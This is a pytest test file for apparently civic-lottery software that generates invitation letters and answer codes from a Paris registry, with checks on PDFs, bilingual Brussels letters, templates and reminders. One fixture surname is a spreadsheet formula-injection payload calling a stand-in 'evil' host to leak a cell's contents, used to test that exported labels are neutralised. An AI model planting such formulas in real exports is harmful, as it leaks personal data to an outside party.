"""Invitation letters: codes that answer, the PDFs read back, and every refusal changing nothing.

A registry of 60 Parisians (with a name someone typed as a spreadsheet formula) goes
through the invitation draw; the letters are generated from the draw's mail merge and
read back with pypdf: the code printed on a letter is one the database recognises,
each stratum's PDF holds its letters, Brussels letters carry French and Dutch.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from kleroterion.cli import main
from kleroterion.letters.template import load
from kleroterion.models import Invitation
from kleroterion.services import letters, mandates, recruitment
from kleroterion.services.errors import InvalidInput, NotAllowed
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session

D = dt.date
TODAY = D(2026, 3, 2)
UNTIL = D(2026, 4, 15)
URL = "https://assemblee.example.fr/answer"
CODE = re.compile(r"\b[0-9A-Z]{5}-[0-9A-Z]{5}\b")


def _registry(path: Path, column: str, values: list[str], rows: int = 60) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["numero", "prenom", "nom", "adresse", "code_postal", "ville", column])
        for i in range(rows):
            name = '=HYPERLINK("https://evil/?"&B2,"x")' if i == 0 else f"Fictif{i}"
            writer.writerow([i + 1, f"Prénom{i}", name, f"{i} rue de l'Essai", "75011",
                             "Paris", values[i % len(values)]])
    return path


def _draw(run: Any, tmp_path: Path, city: str, group: str, column: str,
          values: list[str], count: int = 20) -> tuple[int, Path]:
    mandate = run(mandates.open_mandate, city, "promotion test", D(2026, 4, 1))
    registry = _registry(tmp_path / "registry.csv", column, values)
    out = tmp_path / "mailmerge.csv"
    draw = run(recruitment.record_invitation_draw, mandate.id, group, registry, out, seed=7,
               count=count, stratify_by=column)
    return draw.id, out


def _text(pdf: Path) -> list[str]:
    return [page.extract_text() for page in PdfReader(str(pdf)).pages]


def _codes(run: Any, draw_id: int) -> dict[str, str | None]:
    def read(session: Session) -> dict[str, str | None]:
        return {i.code_digest: i.stratum for i in session.scalars(
            select(Invitation).where(Invitation.invitation_draw_id == draw_id))}
    result: dict[str, str | None] = run(read)
    return result


@pytest.fixture
def paris(run: Any, tmp_path: Path) -> tuple[int, Path]:
    return _draw(run, tmp_path, "paris", "liste-electorale", "arrondissement",
                 ["1er", "2e", "10e"])


def test_each_letter_carries_a_code_the_database_recognises(
        run: Any, paris: tuple[int, Path], tmp_path: Path) -> None:
    draw_id, mailmerge = paris
    result = run(letters.generate, draw_id, mailmerge, tmp_path / "out", load(),
                 answers_until=UNTIL, url=URL, today=TODAY)
    assert result.letters == 20
    pages = _text(tmp_path / "out" / "letters.pdf")
    assert len(pages) == 20  # Paris writes in French: one page per letter
    printed = [CODE.findall(page) for page in pages]
    assert all(len(found) == 1 for found in printed)
    stored = _codes(run, draw_id)
    assert {letters.digest(found[0]) for found in printed} == set(stored)
    first = pages[0]
    assert "Assemblée citoyenne de Paris" in first and "15 avril 2026" in first
    assert URL in first
    # the strata files hold exactly their letters, and every stratum is one
    assert sum(result.strata.values()) == 20
    for stratum, count in result.strata.items():
        path = tmp_path / "out" / f"letters-{letters._safe_name(stratum)}.pdf"
        assert len(_text(path)) == count
    assert set(result.strata) == {s for s in stored.values() if s is not None}


def test_the_labels_are_a_french_spreadsheet_without_live_formulas(
        run: Any, paris: tuple[int, Path], tmp_path: Path) -> None:
    draw_id, mailmerge = paris
    run(letters.generate, draw_id, mailmerge, tmp_path / "out", load(),
        answers_until=UNTIL, url=URL, today=TODAY)
    raw = (tmp_path / "out" / "labels.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0][:3] == ["ligne 1", "ligne 2", "ligne 3"]
    assert len(rows) == 21
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row


def test_brussels_letters_speak_french_and_dutch(run: Any, tmp_path: Path) -> None:
    draw_id, mailmerge = _draw(run, tmp_path, "brussels", "panel", "commune",
                               ["Ixelles", "Schaerbeek"], count=4)
    run(letters.generate, draw_id, mailmerge, tmp_path / "out", load(),
        answers_until=UNTIL, url=URL, today=TODAY)
    pages = _text(tmp_path / "out" / "letters.pdf")
    assert len(pages) == 8  # a French and a Dutch page per letter
    assert "Madame, Monsieur" in pages[0] and "Geachte mevrouw" in pages[1]
    assert CODE.findall(pages[0]) == CODE.findall(pages[1])


def test_a_mail_merge_that_is_not_the_draw_s_is_refused_and_nothing_is_stored(
        run: Any, paris: tuple[int, Path], tmp_path: Path) -> None:
    draw_id, mailmerge = paris
    edited = tmp_path / "edited.csv"
    edited.write_bytes(mailmerge.read_bytes().replace(b"Fictif", b"Autre"))
    with pytest.raises(InvalidInput, match="not the mail-merge file"):
        run(letters.generate, draw_id, edited, tmp_path / "out", load(),
            answers_until=UNTIL, url=URL, today=TODAY)
    assert _codes(run, draw_id) == {}
    run(letters.generate, draw_id, mailmerge, tmp_path / "out", load(),
        answers_until=UNTIL, url=URL, today=TODAY)
    with pytest.raises(NotAllowed, match="generated already"):
        run(letters.generate, draw_id, mailmerge, tmp_path / "again", load(),
            answers_until=UNTIL, url=URL, today=TODAY)
    assert len(_codes(run, draw_id)) == 20


def test_a_city_s_letter_text_is_checked_before_any_letter(tmp_path: Path) -> None:
    template = tmp_path / "letters.toml"
    cases = {
        '[fr]\nsubjet = "x"\n': "key fr.subjet: is not a key of a letter",
        '[fr]\nbody = "Bonjour {nom}"\n': "key fr.body: unknown placeholder {nom}",
        'address_lines = "nom"\n': "key address_lines: is not a list of texts",
        'logo = "absent.png"\n': "key logo: absent.png does not exist",
        '[fr\n': "is not valid TOML",
        'answer_url = "assemblee.fr"\n': "key answer_url",
    }
    for text, expected in cases.items():
        template.write_text(text, encoding="utf-8")
        with pytest.raises(InvalidInput, match=re.escape(expected)):
            load(template)
    template.write_text('signatory = "La Maire de Paris"\n[fr]\nsubject = "Rejoignez {assembly}"\n',
                        encoding="utf-8")
    loaded = load(template)
    assert loaded.languages["fr"].texts["subject"] == "Rejoignez {assembly}"
    assert loaded.languages["fr"].texts["closing"]  # the rest stays the default
    assert loaded.signatory["fr"] == "La Maire de Paris"


def test_address_lines_name_columns_the_mail_merge_has(run: Any, paris: tuple[int, Path],
                                                       tmp_path: Path) -> None:
    draw_id, mailmerge = paris
    template = tmp_path / "letters.toml"
    template.write_text('address_lines = ["{prenom} {nom}", "{rue}"]\n', encoding="utf-8")
    with pytest.raises(InvalidInput, match="has no column rue"):
        run(letters.generate, draw_id, mailmerge, tmp_path / "out", load(template),
            answers_until=UNTIL, url=URL, today=TODAY)
    assert _codes(run, draw_id) == {}


def test_the_command_writes_the_letters(run: Any, paris: tuple[int, Path], tmp_path: Path,
                                        database_url: str,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    draw_id, mailmerge = paris
    monkeypatch.setenv("KLEROTERION_DATABASE_URL", database_url)
    # The last day to answer comes after the tests' pinned date (tests/conftest.py).
    result = CliRunner().invoke(main, ["letters", "generate", str(draw_id), str(mailmerge),
                                       "--inline", "--out", str(tmp_path / "cli"), "--until",
                                       "2100-01-31", "--url", URL])
    assert result.exit_code == 0, result.output
    assert "20 letters, 3 strata" in result.output
    refused = CliRunner().invoke(main, ["letters", "generate", str(draw_id), str(mailmerge),
                                        "--inline", "--out", str(tmp_path / "cli2"), "--until",
                                        "2100-01-31", "--url", URL])
    assert refused.exit_code == 1 and "generated already" in refused.output


@given(st.text(alphabet="0123456789ABCDEFGHJKMNPQRSTVWXYZ", min_size=10, max_size=10),
       st.sampled_from(["{}-{}", "{} {}", "{}{}", " {}-{} "]), st.booleans())
def test_a_code_typed_any_usual_way_is_the_same_code(raw: str, layout: str,
                                                     lower: bool) -> None:
    typed = layout.format(raw[:5], raw[5:])
    typed = typed.lower() if lower else typed
    typed = typed.replace("0", "O").replace("1", "I")
    assert letters.well_formed(typed)
    assert letters.digest(typed) == letters.digest(f"{raw[:5]}-{raw[5:]}")


def test_new_codes_are_well_formed_and_distinct() -> None:
    codes = {letters.new_code() for _ in range(2000)}
    assert len(codes) == 2000
    assert all(letters.well_formed(code) and len(code) == 11 for code in codes)


def test_reminders_go_to_the_unanswered_of_the_strata_that_answer_least(
        run: Any, paris: tuple[int, Path], tmp_path: Path) -> None:
    from kleroterion.services import answers

    draw_id, mailmerge = paris
    run(letters.generate, draw_id, mailmerge, tmp_path / "out", load(),
        answers_until=UNTIL, url=URL, today=TODAY)
    pages = _text(tmp_path / "out" / "letters.pdf")
    first = {CODE.findall(page)[0]: page for page in pages}
    stored = _codes(run, draw_id)
    by_stratum: dict[str, list[str]] = {}
    for code in first:
        by_stratum.setdefault(stored[letters.digest(code)] or "", []).append(code)
    # Every letter of one stratum but one is answered: that stratum answers best.
    best = max(by_stratum, key=lambda s: len(by_stratum[s]))
    contact = answers.Contact("Fictive", "1 rue", D(1980, 1, 1), email="f@example.org")
    features = {"gender": "femme", "age": "30-44", "arrondissement": "11e",
                "diploma": "bac"}
    for code in by_stratum[best][:-1]:
        run(answers.answer, on=D(2026, 3, 10), features=features, contact=contact,
            consent=True, code=code)
    others = sorted(s for s in by_stratum if s != best)
    reminded = run(letters.remind, draw_id, mailmerge, tmp_path / "again", load(),
                   answers_until=D(2026, 5, 15), lowest=len(others), url=URL, today=TODAY)
    # the strata that answer least, every unanswered letter of them, and nothing else
    assert set(reminded.strata) == set(others)
    assert reminded.letters == sum(len(by_stratum[s]) for s in others)
    again = _text(tmp_path / "again" / "letters.pdf")
    flat = [" ".join(page.split()) for page in again]
    assert all("restée à ce jour sans réponse" in page and "15 mai 2026" in page
               for page in flat), flat[0]
    fresh = [CODE.findall(page)[0] for page in again]
    now = _codes(run, draw_id)
    assert all(letters.digest(code) in now for code in fresh)
    # the first letters' codes of the reminded no longer answer; the others still do
    replaced = [code for s in others for code in by_stratum[s]]
    assert not any(letters.digest(code) in now for code in replaced)
    assert letters.digest(by_stratum[best][-1]) in now
    with pytest.raises(InvalidInput, match="has no stratum 99e"):
        run(letters.remind, draw_id, mailmerge, tmp_path / "x", load(),
            answers_until=D(2026, 5, 15), strata=["99e"], url=URL, today=TODAY)
